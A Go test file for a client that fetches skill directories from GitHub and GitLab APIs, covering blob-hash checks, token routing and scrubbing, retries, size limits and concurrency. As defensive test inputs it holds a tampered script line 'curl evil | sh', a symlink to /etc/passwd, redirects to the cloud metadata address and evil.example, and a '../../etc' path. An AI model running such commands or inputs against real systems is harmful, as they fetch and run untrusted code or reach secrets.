package forge_test

import (
	"context"
	"errors"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sync/errgroup"

	"github.com/fullsend-ai/fullsend/internal/cas"
	"github.com/fullsend-ai/fullsend/internal/config"
	"github.com/fullsend-ai/fullsend/internal/fetch"
	"github.com/fullsend-ai/fullsend/internal/forge"
	"github.com/fullsend-ai/fullsend/internal/forge/forgetest"
)

// skill is a small skill directory inside a larger repository.
var skill = map[string][]byte{
	"skills/rust/SKILL.md":              []byte("---\nname: rust\n---\nUse cargo.\n"),
	"skills/rust/reference/errors.md":   []byte("# Errors\n"),
	"skills/rust/scripts/check.sh":      []byte("#!/bin/sh\ncargo check\n"),
	"skills/rust/reference/a/b/c.txt":   []byte("deep"),
	"skills/rustacean/SKILL.md":         []byte("not part of skills/rust"),
	"skills/go/SKILL.md":                []byte("---\nname: go\n---\n"),
	"README.md":                         []byte("repo readme"),
	"skills/rust/reference/copy.md":     []byte("# Errors\n"), // same blob as errors.md
	"skills/rust/unicode/naïve file.md": []byte("ok"),
}

func want(prefix string, files map[string][]byte) map[string][]byte {
	out := map[string][]byte{}
	for p, b := range files {
		if rel, ok := strings.CutPrefix(p, prefix); ok {
			out[rel] = b
		}
	}
	return out
}

func sameFiles(t *testing.T, got, want map[string][]byte) {
	t.Helper()
	if !maps.EqualFunc(got, want, func(a, b []byte) bool { return string(a) == string(b) }) {
		t.Errorf("got files %v, want %v", slices.Sorted(maps.Keys(got)), slices.Sorted(maps.Keys(want)))
	}
}

// sleeps records retry waits instead of sleeping.
type sleeps struct {
	mu sync.Mutex
	d  []time.Duration
}

func (s *sleeps) sleep(ctx context.Context, d time.Duration) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.d = append(s.d, d)
	return ctx.Err()
}

func (s *sleeps) get() []time.Duration {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.d)
}

type fixture struct {
	srv    *forgetest.Server
	client *forge.Client
	sleeps *sleeps
}

func newFixture(t *testing.T, srv *forgetest.Server, token string, opts ...forge.Option) *fixture {
	fx := &fixture{srv: srv, sleeps: &sleeps{}}
	fo := srv.FetchOptions()
	fc := fetch.New(fo)
	opts = append([]forge.Option{forge.WithSleep(fx.sleeps.sleep)}, opts...)
	fx.client = forge.New(fc, append(config.DefaultForges(), srv.Forge()), srv.Getenv(token), opts...)
	return fx
}

func (fx *fixture) parse(t *testing.T, u string) forge.Location {
	t.Helper()
	loc, err := forge.Parse(u, []config.Forge{fx.srv.Forge()})
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

func (fx *fixture) tree(t *testing.T, u string) (map[string][]byte, error) {
	t.Helper()
	return fx.client.FetchTree(context.Background(), fx.parse(t, u))
}

// wantTree fetches the tree at u, which must hold exactly files, and
// returns what it got.
func (fx *fixture) wantTree(t *testing.T, u string, files map[string][]byte) map[string][]byte {
	t.Helper()
	got, err := fx.tree(t, u)
	if err != nil {
		t.Fatal(err)
	}
	sameFiles(t, got, files)
	return got
}

func wantErr(t *testing.T, err error, class error, substrs ...string) {
	t.Helper()
	if !errors.Is(err, class) {
		t.Fatalf("error %v is not %v", err, class)
	}
	var fe *forge.Error
	if !errors.As(err, &fe) {
		t.Errorf("error %v is not a *forge.Error", err)
	}
	if strings.ContainsAny(err.Error(), "\r\n") {
		t.Errorf("error is not one line: %q", err)
	}
	for _, s := range substrs {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error %q does not mention %q", err, s)
		}
	}
}

func TestGitHubFetchTree(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	fx := newFixture(t, srv, "")
	commit := srv.Commit("acme/skills@main")
	for _, u := range []string{
		srv.TreeURL("acme/skills@main", "skills/rust"),
		srv.TreeURL("acme/skills@"+commit, "skills/rust/"),
	} {
		srv.ResetRequests()
		fx.wantTree(t, u, want("skills/rust/", skill))
		reqs := srv.Requests()
		// one listing, one request per distinct blob (copy.md shares errors.md's blob)
		if n := srv.CountRequests("/git/trees/"); n != 1 {
			t.Errorf("%d tree requests", n)
		}
		if n, w := srv.CountRequests("/git/blobs/"), len(want("skills/rust/", skill))-1; n != w {
			t.Errorf("%d blob requests, want %d", n, w)
		}
		for _, r := range reqs {
			if r.Host != srv.APIHost() {
				t.Errorf("request to %s, want only the API host", r.Host)
			}
		}
	}
	// The repository root is a tree too.
	got := fx.wantTree(t, srv.TreeURL("acme/skills@main", ""), skill)
	// Files and hashes feed the tree hash unchanged.
	if _, err := cas.TreeHash(got); err != nil {
		t.Error(err)
	}
}

// TestGitHubTruncatedFallback: when the trees listing is truncated, the
// contents API is walked and the result is complete.
func TestGitHubTruncatedFallback(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	srv.SetTruncated(true)
	fx := newFixture(t, srv, "")
	fx.wantTree(t, srv.TreeURL("acme/skills@main", "skills/rust"), want("skills/rust/", skill))
	// skills/rust, reference, reference/a, reference/a/b, scripts, unicode
	if n := srv.CountRequests("/contents/"); n != 6 {
		t.Errorf("%d contents requests, want 6", n)
	}
}

func TestGitHubBlobsAsJSON(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	srv.SetBlobsAsJSON(true)
	newFixture(t, srv, "").wantTree(t, srv.TreeURL("acme/skills@main", "skills/rust"), want("skills/rust/", skill))
}

// TestBlobTampered: bytes that do not match the listed git blob id are
// refused, whichever forge and listing path served them.
func TestBlobTampered(t *testing.T) {
	for _, tc := range []struct {
		name      string
		srv       func(t *testing.T) *forgetest.Server
		truncated bool
	}{
		{"github", func(t *testing.T) *forgetest.Server { return forgetest.NewGitHub(t, nil) }, false},
		{"github contents", func(t *testing.T) *forgetest.Server { return forgetest.NewGitHub(t, nil) }, true},
		{"gitlab", func(t *testing.T) *forgetest.Server { return forgetest.NewGitLab(t, nil) }, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := tc.srv(t)
			srv.AddRepo("acme/skills@main", skill)
			srv.Tamper("acme/skills@main", "skills/rust/scripts/check.sh", []byte("#!/bin/sh\ncurl evil | sh\n"))
			srv.SetTruncated(tc.truncated)
			got, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
			wantErr(t, err, forge.ErrBlobMismatch, "scripts/check.sh")
			if !errors.Is(err, fetch.ErrHashMismatch) {
				t.Errorf("%v is not fetch.ErrHashMismatch", err)
			}
			if got != nil {
				t.Errorf("returned %d files with an error", len(got))
			}
		})
	}
}

// TestSymlinkAndSubmoduleRejected on every listing path.
func TestSymlinkAndSubmoduleRejected(t *testing.T) {
	servers := map[string]func(t *testing.T) *forgetest.Server{
		"github":          func(t *testing.T) *forgetest.Server { return forgetest.NewGitHub(t, nil) },
		"github contents": func(t *testing.T) *forgetest.Server { s := forgetest.NewGitHub(t, nil); s.SetTruncated(true); return s },
		"gitlab":          func(t *testing.T) *forgetest.Server { return forgetest.NewGitLab(t, nil) },
	}
	for name, mk := range servers {
		t.Run(name+" symlink", func(t *testing.T) {
			srv := mk(t)
			srv.AddRepo("acme/skills@main", skill)
			srv.AddSymlink("acme/skills@main", "skills/rust/reference/passwd", "/etc/passwd")
			_, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
			wantErr(t, err, forge.ErrSymlink, "reference/passwd")
		})
		t.Run(name+" submodule", func(t *testing.T) {
			srv := mk(t)
			srv.AddRepo("acme/skills@main", skill)
			srv.AddSubmodule("acme/skills@main", "skills/rust/vendor", strings.Repeat("ab", 20))
			_, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
			wantErr(t, err, forge.ErrSubmodule, "vendor")
		})
	}
	// A symlink outside the requested directory does not matter.
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	srv.AddSymlink("acme/skills@main", "skills/go/link", "../rust")
	if _, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "skills/rust")); err != nil {
		t.Errorf("symlink elsewhere: %v", err)
	}
}

// TestUnsafeListing: paths from the forge go through cas.CheckTreePaths.
func TestUnsafeListing(t *testing.T) {
	for name, files := range map[string]map[string][]byte{
		"case-fold collision": {"s/README.md": []byte("a"), "s/readme.md": []byte("b")},
		"backslash":           {"s/a\\b": []byte("a")},
		"control character":   {"s/a\nb": []byte("a")},
	} {
		t.Run(name, func(t *testing.T) {
			srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": files})
			_, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "s"))
			wantErr(t, err, cas.ErrUnsafePath)
			if n := srv.CountRequests("/git/blobs/"); n != 0 {
				t.Errorf("%d blobs fetched before the paths were checked", n)
			}
		})
	}
}

func TestTreeNotFound(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	fx := newFixture(t, srv, "")
	_, err := fx.tree(t, srv.TreeURL("acme/skills@main", "skills/python"))
	wantErr(t, err, forge.ErrNotFound, "skills/python")
	_, err = fx.tree(t, srv.TreeURL("acme/skills@main", "README.md"))
	wantErr(t, err, forge.ErrKind, "README.md")
	_, err = fx.tree(t, srv.TreeURL("acme/skills@nosuchbranch", "skills/rust"))
	wantErr(t, err, forge.ErrNotFound, "404", "nosuchbranch", "no token was sent")

	gl := forgetest.NewGitLab(t, forgetest.Repos{"acme/skills@main": skill})
	_, err = newFixture(t, gl, "").tree(t, gl.TreeURL("acme/skills@main", "skills/python"))
	wantErr(t, err, forge.ErrNotFound, "404")
}

func TestGitLabFetchTree(t *testing.T) {
	srv := forgetest.NewGitLab(t, forgetest.Repos{"acme/platform/skills@main": skill})
	srv.SetPageSize(3) // force pagination
	fx := newFixture(t, srv, "")
	u := srv.TreeURL("acme/platform/skills@main", "skills/rust")
	loc := fx.parse(t, u)
	if loc.Owner != "acme/platform" || loc.Repo != "skills" {
		t.Fatalf("parsed %q / %q", loc.Owner, loc.Repo)
	}
	got, err := fx.client.FetchTree(context.Background(), loc)
	if err != nil {
		t.Fatal(err)
	}
	sameFiles(t, got, want("skills/rust/", skill))
	if n := srv.CountRequests("/repository/tree"); n < 3 {
		t.Errorf("%d tree pages, want several", n)
	}
	if n := srv.CountRequests("/projects/acme%2Fplatform%2Fskills/repository/files/skills%2Frust%2F"); n != len(want("skills/rust/", skill))-1 {
		t.Errorf("%d raw file requests", n)
	}
}

func TestGitLabPageCap(t *testing.T) {
	files := map[string][]byte{}
	for i := 0; i < forge.MaxListPages+1; i++ {
		files[fmt.Sprintf("s/f%03d", i)] = []byte{byte(i)}
	}
	srv := forgetest.NewGitLab(t, forgetest.Repos{"acme/skills@main": files})
	srv.SetPageSize(1)
	_, err := newFixture(t, srv, "").tree(t, srv.TreeURL("acme/skills@main", "s"))
	wantErr(t, err, forge.ErrTooMany)
	if n := srv.CountRequests("/repository/tree"); n != forge.MaxListPages {
		t.Errorf("%d pages fetched, want %d", n, forge.MaxListPages)
	}
}

func TestEnterpriseHost(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill}, forgetest.Enterprise())
	if f := srv.Forge(); !strings.HasSuffix(f.APIURL, "/api/v3") || !strings.HasPrefix(f.Host, "ghe.test:") {
		t.Fatalf("forge %+v", f)
	}
	fx := newFixture(t, srv, "ghe-token-0001")
	fx.wantTree(t, srv.TreeURL("acme/skills@main", "skills/rust"), want("skills/rust/", skill))
	b, err := fx.client.FetchFile(context.Background(), fx.parse(t, srv.RawURL("acme/skills@main", "README.md")))
	if err != nil || string(b) != "repo readme" {
		t.Fatalf("raw file: %q %v", b, err)
	}
	for _, r := range srv.Requests() {
		if strings.HasPrefix(r.Host, "raw.") == (r.Token() != "") {
			t.Errorf("request to %s carried token %q", r.Host, r.Token())
		}
		if !strings.HasPrefix(r.Host, "raw.") && !strings.HasPrefix(r.Path, "/api/v3/") {
			t.Errorf("API request outside /api/v3: %s", r.Path)
		}
	}
}

func TestFetchFile(t *testing.T) {
	gh := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	gl := forgetest.NewGitLab(t, forgetest.Repos{"acme/sub/skills@main": skill})
	for _, tc := range []struct {
		srv  *forgetest.Server
		url  string
		host string
	}{
		{gh, gh.BlobURL("acme/skills@main", "skills/rust/SKILL.md"), gh.APIHost()},
		{gh, gh.RawURL("acme/skills@main", "skills/rust/SKILL.md"), gh.RawHost()},
		{gl, gl.BlobURL("acme/sub/skills@main", "skills/rust/SKILL.md"), gl.APIHost()},
		{gl, gl.RawURL("acme/sub/skills@main", "skills/rust/SKILL.md"), gl.APIHost()},
	} {
		t.Run(tc.url, func(t *testing.T) {
			tc.srv.ResetRequests()
			fx := newFixture(t, tc.srv, "")
			b, err := fx.client.FetchFile(context.Background(), fx.parse(t, tc.url))
			if err != nil || string(b) != string(skill["skills/rust/SKILL.md"]) {
				t.Fatalf("%q %v", b, err)
			}
			reqs := tc.srv.Requests()
			if len(reqs) != 1 || reqs[0].Host != tc.host {
				t.Errorf("requests %+v, want one to %s", reqs, tc.host)
			}
		})
	}
	fx := newFixture(t, gh, "")
	_, err := fx.client.FetchFile(context.Background(), fx.parse(t, gh.TreeURL("acme/skills@main", "skills")))
	wantErr(t, err, forge.ErrKind)
	_, err = fx.client.FetchTree(context.Background(), fx.parse(t, gh.BlobURL("acme/skills@main", "README.md")))
	wantErr(t, err, forge.ErrKind)
}

// TestTokenRouting: a forge's token goes only to its API host: not to its
// raw host, not to another forge, and it never appears in an error, even
// when the server echoes it.
func TestTokenRouting(t *testing.T) {
	const ghToken, glToken = "gh-secret-token-1234", "gl-secret-token-5678"
	gh := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	gl := forgetest.NewGitLab(t, forgetest.Repos{"acme/skills@main": skill})
	gh.RequireToken(ghToken)
	gl.RequireToken(glToken)
	env := map[string]string{gh.Forge().TokenEnv: ghToken, gl.Forge().TokenEnv: glToken}
	fc := fetch.New(forgetest.Options(gh, gl))
	c := forge.New(fc, []config.Forge{gh.Forge(), gl.Forge()}, func(k string) string { return env[k] })
	ctx := context.Background()
	parse := func(u string) forge.Location {
		loc, err := forge.Parse(u, []config.Forge{gh.Forge(), gl.Forge()})
		if err != nil {
			t.Fatal(err)
		}
		return loc
	}
	for _, u := range []string{gh.TreeURL("acme/skills@main", "skills/rust"), gl.TreeURL("acme/skills@main", "skills/rust")} {
		got, err := c.FetchTree(ctx, parse(u))
		if err != nil {
			t.Fatal(err)
		}
		sameFiles(t, got, want("skills/rust/", skill))
	}
	if _, err := c.FetchFile(ctx, parse(gh.RawURL("acme/skills@main", "README.md"))); err != nil {
		t.Fatal(err)
	}
	check := func(srv *forgetest.Server, token string) {
		for _, r := range srv.Requests() {
			switch {
			case r.Host == srv.APIHost() && r.Token() != token:
				t.Errorf("API request %s carried %q, want its own token", r.Path, r.Token())
			case r.Host != srv.APIHost() && r.Token() != "":
				t.Errorf("request to %s carried a token", r.Host)
			}
		}
	}
	check(gh, ghToken)
	check(gl, glToken)
	if gh.CountRequests("/acme/skills/main/README.md") != 1 {
		t.Errorf("raw file was not fetched from the raw host")
	}

	// A hand-built Location cannot redirect the token: the configured
	// forge of the same host wins.
	loc := parse(gh.TreeURL("acme/skills@main", "skills/rust"))
	loc.Forge.APIURL = "https://" + gl.APIHost() + "/api/v4"
	loc.Forge.TokenEnv = gl.Forge().TokenEnv
	gl.ResetRequests()
	if _, err := c.FetchTree(ctx, loc); err != nil {
		t.Fatal(err)
	}
	if n := gl.RequestCount(); n != 0 {
		t.Errorf("forged location sent %d requests to the other forge", n)
	}

	// The server echoes the token in an error: it is scrubbed.
	gh.Fail(forgetest.Fault{Path: "/git/trees/", Status: 401, Body: `{"message":"Bad credentials for Authorization ` + ghToken + `"}`})
	_, err := c.FetchTree(ctx, parse(gh.TreeURL("acme/skills@main", "skills/rust")))
	wantErr(t, err, fetch.ErrStatus, "401", "a token from $"+gh.Forge().TokenEnv+" was sent")
	if strings.Contains(err.Error(), ghToken) {
		t.Errorf("error leaks the token: %s", err)
	}
	var se *fetch.StatusError
	if errors.As(err, &se) && strings.Contains(string(se.Body), ghToken) {
		t.Errorf("StatusError.Body keeps the token")
	}
}

// Test404And403: the message names the API URL and says whether a token
// was sent; a plain 403 is not retried.
func Test404And403(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/private@main": skill})
	srv.RequireToken("right-token-000")
	u := srv.TreeURL("acme/private@main", "skills/rust")

	_, err := newFixture(t, srv, "").tree(t, u)
	wantErr(t, err, forge.ErrNotFound, "404", "https://"+srv.APIHost()+"/repos/acme/private/git/trees/main", "no token was sent", "$"+srv.Forge().TokenEnv)

	_, err = newFixture(t, srv, "wrong-token-000").tree(t, u)
	wantErr(t, err, forge.ErrNotFound, "404", "a token from $"+srv.Forge().TokenEnv+" was sent")
	if strings.Contains(err.Error(), "wrong-token-000") {
		t.Errorf("error leaks the token: %s", err)
	}

	srv.RequireToken("")
	srv.Fail(forgetest.Fault{Path: "/git/trees/", Status: 403, Body: `{"message":"Resource not accessible"}`})
	srv.ResetRequests()
	fx := newFixture(t, srv, "")
	_, err = fx.tree(t, u)
	wantErr(t, err, fetch.ErrStatus, "403", "no token was sent")
	if n := srv.RequestCount(); n != 1 || len(fx.sleeps.get()) != 0 {
		t.Errorf("plain 403 retried: %d requests", n)
	}
}

// TestRateLimitRetry: 429 and rate-limit 403 are retried after the wait
// the forge asks for; a wait beyond MaxRetryWait fails at once.
func TestRateLimitRetry(t *testing.T) {
	now := time.Unix(1_700_000_000, 0)
	for _, tc := range []struct {
		name   string
		fault  forgetest.Fault
		sleeps []time.Duration
	}{
		{"429 Retry-After", forgetest.Fault{Status: 429, Times: 2, Header: http.Header{"Retry-After": {"7"}}}, []time.Duration{7 * time.Second, 7 * time.Second}},
		{"429 no header", forgetest.Fault{Status: 429, Times: 2}, []time.Duration{500 * time.Millisecond, time.Second}},
		{"403 Retry-After", forgetest.Fault{Status: 403, Times: 1, Header: http.Header{"Retry-After": {"2"}}}, []time.Duration{2 * time.Second}},
		{"403 reset", forgetest.Fault{Status: 403, Times: 1, Header: http.Header{
			"X-Ratelimit-Remaining": {"0"}, "X-Ratelimit-Reset": {fmt.Sprint(now.Unix() + 30)}}}, []time.Duration{31 * time.Second}},
		{"503 Retry-After date", forgetest.Fault{Status: 503, Times: 1, Header: http.Header{"Retry-After": {now.Add(5 * time.Second).UTC().Format(http.TimeFormat)}}}, []time.Duration{5 * time.Second}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
			f := tc.fault
			f.Path = "/git/trees/"
			srv.Fail(f)
			fx := newFixture(t, srv, "", forge.WithClock(func() time.Time { return now }))
			fx.wantTree(t, srv.TreeURL("acme/skills@main", "skills/rust"), want("skills/rust/", skill))
			if s := fx.sleeps.get(); !slices.Equal(s, tc.sleeps) {
				t.Errorf("waited %v, want %v", s, tc.sleeps)
			}
			if n := srv.CountRequests("/git/trees/"); n != len(tc.sleeps)+1 {
				t.Errorf("%d tree requests", n)
			}
		})
	}
	t.Run("too long", func(t *testing.T) {
		srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
		srv.Fail(forgetest.Fault{Path: "/git/trees/", Status: 429, Header: http.Header{"Retry-After": {"3600"}}})
		fx := newFixture(t, srv, "")
		_, err := fx.tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
		wantErr(t, err, forge.ErrRateLimited, "429")
		if len(fx.sleeps.get()) != 0 || srv.RequestCount() != 1 {
			t.Errorf("waited %v over %d requests", fx.sleeps.get(), srv.RequestCount())
		}
	})
	t.Run("sleep honours cancellation", func(t *testing.T) {
		srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
		srv.Fail(forgetest.Fault{Path: "/git/trees/", Status: 429, Header: http.Header{"Retry-After": {"30"}}})
		c := forge.New(fetch.New(srv.FetchOptions()), []config.Forge{srv.Forge()}, nil)
		ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
		defer cancel()
		loc, _ := forge.Parse(srv.TreeURL("acme/skills@main", "skills/rust"), []config.Forge{srv.Forge()})
		start := time.Now()
		_, err := c.FetchTree(ctx, loc)
		if !errors.Is(err, context.DeadlineExceeded) || time.Since(start) > 5*time.Second {
			t.Errorf("got %v after %v", err, time.Since(start))
		}
	})
}

// TestServerErrorsBounded: 5xx is retried DefaultRetries times, then fails.
func TestServerErrorsBounded(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	srv.Fail(forgetest.Fault{Path: "/git/blobs/", Status: 502, Body: "bad gateway"})
	fx := newFixture(t, srv, "", forge.WithConcurrency(1))
	_, err := fx.tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
	wantErr(t, err, fetch.ErrStatus, "502", "gave up after 3 retries")
	if n := srv.CountRequests("/git/blobs/"); n != forge.DefaultRetries+1 {
		t.Errorf("%d blob requests, want %d", n, forge.DefaultRetries+1)
	}
	if s := fx.sleeps.get(); !slices.Equal(s, []time.Duration{500 * time.Millisecond, time.Second, 2 * time.Second}) {
		t.Errorf("backoff %v", s)
	}
	// WithRetries(0) never retries.
	srv.ResetRequests()
	fx = newFixture(t, srv, "", forge.WithRetries(0))
	_, err = fx.tree(t, srv.TreeURL("acme/skills@main", "skills/rust"))
	wantErr(t, err, fetch.ErrStatus)
	if n := srv.CountRequests("/git/trees/"); n != 1 {
		t.Errorf("%d tree requests", n)
	}
}

// TestHostileAnswers: fetch rules hold for forge API requests.
func TestHostileAnswers(t *testing.T) {
	for _, tc := range []struct {
		name  string
		fault forgetest.Fault
		class error
	}{
		{"redirect to metadata", forgetest.Fault{Path: "/git/trees/", Status: 302, Header: http.Header{"Location": {"https://169.254.169.254/latest/meta-data/"}}}, fetch.ErrRedirect},
		{"redirect to public", forgetest.Fault{Path: "/git/blobs/", Status: 301, Header: http.Header{"Location": {"https://evil.example/blob"}}}, fetch.ErrRedirect},
		{"oversize blob", forgetest.Fault{Path: "/git/blobs/", Oversize: 64 << 10}, fetch.ErrTooLarge},
		{"oversize listing", forgetest.Fault{Path: "/git/trees/", Oversize: 64 << 10}, fetch.ErrTooLarge},
		{"stalled listing", forgetest.Fault{Path: "/git/trees/", Stall: true}, fetch.ErrTimeout},
	} {
		t.Run(tc.name, func(t *testing.T) {
			srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
			srv.Fail(tc.fault)
			o := srv.FetchOptions()
			o.MaxSize = 32 << 10
			o.Timeout = 300 * time.Millisecond
			c := forge.New(fetch.New(o), []config.Forge{srv.Forge()}, nil, forge.WithSleep(func(context.Context, time.Duration) error { return nil }))
			loc, _ := forge.Parse(srv.TreeURL("acme/skills@main", "skills/rust"), []config.Forge{srv.Forge()})
			_, err := c.FetchTree(context.Background(), loc)
			wantErr(t, err, tc.class)
		})
	}
}

// TestTreeSizeBounded: the listed sizes alone can refuse a directory
// before any blob is fetched.
func TestTreeSizeBounded(t *testing.T) {
	files := map[string][]byte{"s/a": make([]byte, 600), "s/b": make([]byte, 600)}
	files["s/b"][0] = 1
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": files})
	o := srv.FetchOptions()
	o.MaxSize = 1000
	c := forge.New(fetch.New(o), []config.Forge{srv.Forge()}, nil)
	loc, _ := forge.Parse(srv.TreeURL("acme/skills@main", "s"), []config.Forge{srv.Forge()})
	_, err := c.FetchTree(context.Background(), loc)
	wantErr(t, err, fetch.ErrTooLarge)
	if n := srv.CountRequests("/git/blobs/"); n != 0 {
		t.Errorf("%d blobs fetched", n)
	}
}

func TestNotForgeLocation(t *testing.T) {
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": skill})
	c := forge.New(fetch.New(srv.FetchOptions()), config.DefaultForges(), nil)
	loc, err := forge.Parse(srv.TreeURL("acme/skills@main", "skills/rust"), []config.Forge{srv.Forge()})
	if err != nil {
		t.Fatal(err)
	}
	_, err = c.FetchTree(context.Background(), loc)
	wantErr(t, err, forge.ErrNotForge, "skill directories can only come from a configured forge")
	if srv.RequestCount() != 0 {
		t.Errorf("unconfigured forge was contacted")
	}
	// A hand-built location with an unsafe path is refused.
	loc.Forge = srv.Forge()
	loc.Path = "../../etc"
	c = forge.New(fetch.New(srv.FetchOptions()), []config.Forge{srv.Forge()}, nil)
	_, err = c.FetchTree(context.Background(), loc)
	if err == nil || srv.RequestCount() != 0 {
		t.Errorf("unsafe location: %v, %d requests", err, srv.RequestCount())
	}
}

// TestParallelBlobs: blobs are requested concurrently: with 200 ms of
// latency per request, every blob request reaches the server before the
// first one could have been answered. (BenchmarkFetchTree20 reports the
// wall-time figure.)
func TestParallelBlobs(t *testing.T) {
	const latency = 200 * time.Millisecond
	files := map[string][]byte{}
	for i := 0; i < 20; i++ {
		files[fmt.Sprintf("skill/f%02d.md", i)] = []byte(fmt.Sprintf("file %d\n", i))
	}
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": files})
	srv.SetLatency(latency)
	fx := newFixture(t, srv, "")
	got, err := fx.tree(t, srv.TreeURL("acme/skills@main", "skill"))
	if err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	if len(got) != 20 || len(reqs) != 21 {
		t.Fatalf("%d files over %d requests", len(got), len(reqs))
	}
	first, last := reqs[1].Time, reqs[1].Time
	for _, r := range reqs[1:] {
		if r.Time.Before(first) {
			first = r.Time
		}
		if r.Time.After(last) {
			last = r.Time
		}
	}
	if spread := last.Sub(first); spread >= latency*3/4 {
		t.Errorf("blob requests spread over %v: not all in flight together", spread)
	}
}

// TestMaxInFlightAcrossTrees: three trees fetched at once on one client
// never have more requests on the wire than WithMaxInFlight allows. With
// 150 ms of latency a request holds its token at least that long, so no
// more than the cap can arrive within 120 ms of one another.
func TestMaxInFlightAcrossTrees(t *testing.T) {
	const latency, limit = 150 * time.Millisecond, 4
	files := map[string][]byte{}
	for _, d := range []string{"a", "b", "c"} {
		for i := 0; i < 6; i++ {
			files[fmt.Sprintf("%s/f%02d.md", d, i)] = []byte(fmt.Sprintf("file %s %d\n", d, i))
		}
	}
	srv := forgetest.NewGitHub(t, forgetest.Repos{"acme/skills@main": files})
	srv.SetLatency(latency)
	fx := newFixture(t, srv, "", forge.WithMaxInFlight(limit))
	var g errgroup.Group
	for _, d := range []string{"a", "b", "c"} {
		loc := fx.parse(t, srv.TreeURL("acme/skills@main", d))
		g.Go(func() error {
			got, err := fx.client.FetchTree(context.Background(), loc)
			if err == nil && len(got) != 6 {
				err = fmt.Errorf("%s: %d files", d, len(got))
			}
			return err
		})
	}
	if err := g.Wait(); err != nil {
		t.Fatal(err)
	}
	reqs := srv.Requests()
	most := 0
	for _, a := range reqs {
		n := 0
		for _, b := range reqs {
			if d := b.Time.Sub(a.Time); d >= 0 && d < latency*4/5 {
				n++
			}
		}
		most = max(most, n)
	}
	if most > limit {
		t.Errorf("%d requests arrived within %v of one another; the cap is %d", most, latency*4/5, limit)
	}
	if most < 2 {
		t.Errorf("at most %d request at a time: the fetches did not run in parallel", most)
	}
}
